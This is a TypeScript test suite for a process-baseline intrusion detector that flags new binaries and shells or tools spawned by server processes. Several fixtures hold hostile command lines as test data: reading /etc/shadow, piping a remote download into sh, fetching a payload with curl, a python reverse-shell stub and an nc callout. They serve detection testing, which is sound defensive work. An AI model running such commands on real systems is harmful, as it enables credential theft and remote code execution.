import { test } from 'node:test';
import assert from 'node:assert/strict';
import { MemoryKeyedState } from '../../core/state.ts';
import type { Finding } from '../../core/events.ts';
import { findingToOcsf } from '../../core/ocsf/index.ts';
import { DETECTOR_SPECS } from '../registry.ts';
import { ProcessBaselineConfig, ProcessBaselineDetector, processBaselineSpec, RULES, type ProcessBaselineConfigInput, type ProcessBaselineState } from './index.ts';
import { after, DAY, HOUR, MINUTE, normalized, processOf, REAL, variant, type Rec } from './tests/fixtures.ts';

function detector(config: ProcessBaselineConfigInput = {}, state = new MemoryKeyedState<ProcessBaselineState>()): { d: ProcessBaselineDetector; state: MemoryKeyedState<ProcessBaselineState> } {
  return { d: new ProcessBaselineDetector(ProcessBaselineConfig.parse({ enabled: true, ...config }), { state }), state };
}

let offset = 0;
function feed(d: ProcessBaselineDetector, records: readonly Rec[]): Finding[] {
  const out: Finding[] = [];
  for (const r of records) {
    const { key, event } = normalized(r);
    for (const f of d.process(event, { key, topic: 'sluice.process.v1', partition: 0, offset: String(offset++) })) {
      findingToOcsf(f); // valid OCSF (asserted with SLUICE_OCSF_ASSERT=1)
      out.push(f);
    }
  }
  return out;
}

const rules = (fs: readonly Finding[]): string[] => fs.map((f) => f.rule);
const T0 = '2022-01-19T16:29:01.861Z'; // the real curl exec in elasticsearch

test('new_binary: elasticsearch learned curl; 13 days later (the real lifecycle capture) sh, cat and nc are new, with their parent chain; curl is not', () => {
  const { d } = detector();
  const learnt = feed(d, [REAL.curlExec, variant(REAL.curlExec, { time: after(T0, HOUR), pid: 4242, podName: 'elasticsearch-56f8fc6988-zzzzz' })]);
  assert.deepEqual(learnt, [], 'discovery: learned, never reported');
  // The real events in time order: sh lifecycle.sh (from bash), cat and nc (from sh).
  const fs = feed(d, [REAL.lifecycleShExec, REAL.catExec, REAL.ncExec, REAL.ncExit, variant(REAL.curlExec, { time: '2022-02-01T18:02:00.000Z' })]);
  assert.deepEqual(rules(fs), [RULES.discoveryEnded, RULES.newBinary, RULES.newBinary, RULES.newBinary], 'the exit of nc and curl again raise nothing');
  const nc = fs[3]!;
  assert.equal(nc.severity, 'Medium');
  assert.equal(nc.entity.key, 'minikube/tenant-jobs/app/elasticsearch');
  const ev = nc.evidences[0]!;
  assert.deepEqual([ev.binary, ev.parent_binary, ev.parent_chain, ev.args, ev.container, ev.baseline_binaries], ['/usr/bin/nc', '/usr/bin/sh', '/usr/bin/sh', 'raiz3gjkgtfhkkc.not-reverse-shell.com 443', 'elasticsearch', 1]);
  assert.equal(nc.message, '/usr/bin/nc executed by /usr/bin/sh in minikube/tenant-jobs/app/elasticsearch version sha256:ff3aa5862fd17f8695984609743f4523188984adbcd25cf5ac4224b71084558c, which never ran it before');
  assert.equal(fs[1]!.evidences[0]!.parent_binary, '/bin/bash');
});

test('new_binary negative: everything seen during discovery is baseline; mode discover never reports', () => {
  const long = detector({ discovery: { maxMs: 30 * DAY, stableMs: 0 } }).d;
  assert.deepEqual(feed(long, [REAL.curlExec, REAL.lifecycleShExec, REAL.catExec, REAL.ncExec]), []);
  const disc = detector({ mode: 'discover' }).d;
  assert.deepEqual(feed(disc, [REAL.curlExec, REAL.lifecycleShExec, REAL.ncExec]), []);
  const ns = detector({ modes: [{ namespace: 'tenant-jobs', mode: 'discover' }] }).d;
  assert.deepEqual(feed(ns, [REAL.curlExec, REAL.ncExec]), [], 'a namespace rule');
});

test('a new version inherits the baseline: its curl is known, its nc is new and names the version', () => {
  const { d, state } = detector();
  const v2 = { name: 'quay.io/isovalent/jobs-app-elasticsearch:7.17.1', id: 'quay.io/isovalent/jobs-app-elasticsearch@sha256:' + 'a'.repeat(64) };
  feed(d, [REAL.curlExec]);
  const later = after(T0, 2 * DAY);
  const fs = feed(d, [variant(REAL.curlExec, { time: later, image: v2 }), variant(REAL.ncExec, { time: after(later, MINUTE), image: v2 })]);
  assert.deepEqual(rules(fs), [RULES.discoveryEnded, RULES.newBinary]);
  assert.equal(fs[1]!.evidences[0]!.version, '7.17.1');
  const s = state.get('minikube/tenant-jobs/app/elasticsearch')!;
  assert.equal(s.versions.filter(Boolean).length, 2);
  assert.equal(s.binaries['/usr/bin/curl']![3], 0b11, 'curl ran in both versions');
});

test('shell_from_server: a shell started by nginx (a server binary), even in the first minute of discovery; High; once per window', () => {
  const { d } = detector();
  const nginx = processOf(REAL.nginxExec);
  const t = '2022-01-19T11:20:00.000Z';
  const shell = variant(REAL.bashFromRunc, { binary: '/bin/sh', args: '-c "id; cat /etc/shadow"', parent: nginx, time: t });
  const fs = feed(d, [REAL.entrypointScript, REAL.nginxExec, shell, variant(shell, { time: after(t, MINUTE) })]);
  assert.deepEqual(rules(fs), [RULES.shellFromServer], 'the entrypoint script and nginx itself are quiet; the second shell within the hour is counted');
  const f = fs[0]!;
  assert.equal(f.severity, 'High');
  assert.deepEqual([f.evidences[0]!.spawned, f.evidences[0]!.server_reason, f.evidences[0]!.phase, f.evidences[0]!.parent_binary], ['shell', 'server_binary', 'discover', '/usr/sbin/nginx']);
  assert.deepEqual(f.finding_info.attacks.map((a) => a.technique_uid), ['T1059.004', 'T1505.003']);
  const again = feed(d, [variant(shell, { time: after(t, 2 * HOUR) })]).filter((x) => x.rule === RULES.shellFromServer);
  assert.deepEqual([again.length, again[0]!.count], [1, 3], 'after the window: reported again with the count');
});

test('shell_from_server: a shell started by the container entrypoint (python app.py, pid 1 of coreapi)', () => {
  const { d } = detector();
  const python = processOf(REAL.pythonListen);
  const sh = variant(REAL.pythonListen, { binary: '/bin/sh', args: '-c "curl http://203.0.113.9/x | sh"', containerPid: 57, pid: 99001, parent: python });
  const fs = feed(d, [sh]);
  assert.deepEqual(rules(fs), [RULES.shellFromServer]);
  assert.equal(fs[0]!.evidences[0]!.server_reason, 'container_pid_1');
  assert.equal(fs[0]!.entity.key, 'minikube/tenant-jobs/app/coreapi');
});

test('tool_from_server: curl and python -c started by the deathstar server (pid 1), also when a later event lacks the container pid (learned entrypoint)', () => {
  const { d } = detector();
  const server = processOf(REAL.starwarsExec);
  const curl = variant(REAL.starwarsExec, { binary: '/usr/bin/curl', args: '-s http://198.51.100.4/payload -o /tmp/p', containerPid: 23, pid: 70001, parent: server, time: '2022-10-18T04:00:00.000Z' });
  const serverNoPid = processOf(REAL.starwarsExec);
  delete ((serverNoPid.pod as Rec).container as Rec).pid;
  const py = variant(REAL.starwarsExec, { binary: '/usr/bin/python3.11', args: '-c "import socket,os,pty;s=socket.socket()"', containerPid: 24, pid: 70002, parent: serverNoPid, time: '2022-10-18T04:01:00.000Z' });
  const fs = feed(d, [REAL.starwarsExec, curl, py]);
  assert.deepEqual(rules(fs), [RULES.toolFromServer, RULES.toolFromServer]);
  assert.deepEqual(fs.map((f) => [f.evidences[0]!.spawned, f.evidences[0]!.server_reason]), [['network_tool', 'container_pid_1'], ['inline_interpreter', 'entrypoint']]);
});

test('spawn rules negative: entrypoint scripts, sh as pid 1, kubectl exec (bash from runc), nginx from its entrypoint script, shells from shells, a node agent', () => {
  const { d } = detector({ sources: ['workload', 'host'] });
  const shPid1 = variant(REAL.starwarsExec, { binary: '/bin/sh', args: '-c "exec /starwars-docker"', containerPid: 1 });
  // sh as pid 1 even under a server-named parent (a wrapper that execs the shell) stays quiet.
  const shPid1UnderNode = variant(REAL.starwarsExec, { binary: '/bin/sh', args: '/entrypoint.sh', containerPid: 1, parent: { ...processOf(REAL.starwarsExec), binary: '/usr/local/bin/node' } });
  const fs = feed(d, [REAL.entrypointScript, REAL.nginxExec, REAL.bashFromRunc, shPid1, shPid1UnderNode, REAL.lifecycleShExec, REAL.ncExec, REAL.catExec, REAL.merlinSh]);
  assert.deepEqual(fs.filter((f) => f.rule !== RULES.newBinary && f.rule !== RULES.discoveryEnded), []);
});

test('the spawn rules can be turned off; the lists are configurable', () => {
  const nginx = processOf(REAL.nginxExec);
  const shell = variant(REAL.bashFromRunc, { binary: '/bin/sh', args: '-c id', parent: nginx });
  assert.deepEqual(feed(detector({ spawn: { enabled: false } }).d, [shell]), []);
  assert.deepEqual(feed(detector({ spawn: { serverBinaries: [] } }).d, [shell]), [], 'nginx is no server without the list (no pid 1, not a learned entrypoint)');
  assert.deepEqual(rules(feed(detector({ spawn: { serverBinaries: ['nginx'], shells: ['sh'] } }).d, [shell])), [RULES.shellFromServer]);
});

test('effectively-once: a detector rebuilt from the JSON state after every event gives the findings of an undisturbed run', () => {
  const nginx = processOf(REAL.nginxExec);
  const seq = [
    REAL.curlExec,
    REAL.lifecycleShExec,
    REAL.catExec,
    REAL.ncExec,
    REAL.ncExit,
    REAL.nginxExec,
    variant(REAL.bashFromRunc, { binary: '/bin/sh', args: '-c id', parent: nginx }),
    variant(REAL.ncExec, { time: '2022-02-01T20:00:00.000Z' }),
  ];
  const undisturbed = detector().d;
  const want = feed(undisturbed, seq).map((f) => f.id);
  assert.ok(want.length >= 4);
  let state = new MemoryKeyedState<ProcessBaselineState>();
  const got: string[] = [];
  for (const r of seq) {
    const d = detector({}, state).d;
    got.push(...feed(d, [r]).map((f) => f.id));
    const copy = new MemoryKeyedState<ProcessBaselineState>();
    for (const k of state.keys()) copy.set(k, JSON.parse(JSON.stringify(state.get(k))) as ProcessBaselineState);
    state = copy;
  }
  assert.deepEqual(got, want);
});

test('bounded state: binaries and novel records are LRU-bounded, applications beyond the limit and idle ones are deleted', () => {
  const { d, state } = detector({ limits: { maxBinaries: 3, maxNovel: 2, maxApplications: 2, idleTtlMs: 10 * DAY }, discovery: { maxMs: HOUR } });
  const bins = Array.from({ length: 6 }, (_, i) => variant(REAL.curlExec, { binary: `/usr/bin/tool${i}`, time: after(T0, i * MINUTE) }));
  feed(d, bins);
  const key = 'minikube/tenant-jobs/app/elasticsearch';
  assert.deepEqual(Object.keys(state.get(key)!.binaries), ['/usr/bin/tool3', '/usr/bin/tool4', '/usr/bin/tool5']);
  const fs = feed(d, Array.from({ length: 4 }, (_, i) => variant(REAL.curlExec, { binary: `/tmp/x${i}`, time: after(T0, 2 * HOUR + i * MINUTE) })));
  assert.equal(fs.filter((f) => f.rule === RULES.newBinary).length, 4);
  assert.equal(Object.keys(state.get(key)!.novel).length, 2);
  assert.deepEqual(d.stats().binariesEvicted, 3);
  feed(d, [REAL.nginxExec, REAL.starwarsExec]);
  assert.equal(state.size, 1, 'over maxApplications (2): the least recently seen are deleted down to 90%');
  assert.ok(state.has('unknown/default/app/deathstar'), 'the application just seen stays');
  assert.equal(d.stats().applicationsEvictedLru, 2);
  assert.equal(d.sweep(Date.parse('2022-10-20T00:00:00Z')), 0, 'not idle yet');
  assert.equal(d.sweep(Date.parse('2022-12-01T00:00:00Z')), 1, 'idle for more than idleTtlMs');
});

test('registered: the spec reads the process stream, stateful, and its config is strict', () => {
  assert.ok((DETECTOR_SPECS as readonly unknown[]).includes(processBaselineSpec));
  assert.deepEqual([processBaselineSpec.name, processBaselineSpec.stream, processBaselineSpec.stateful], ['process_baseline', 'process', true]);
  assert.throws(() => ProcessBaselineConfig.parse({ enabled: true, nope: 1 }));
  assert.equal(ProcessBaselineConfig.parse({}).enabled, false);
  const off = new ProcessBaselineDetector(ProcessBaselineConfig.parse({}), { state: new MemoryKeyedState() });
  assert.deepEqual(feed(off, [REAL.curlExec]), []);
});
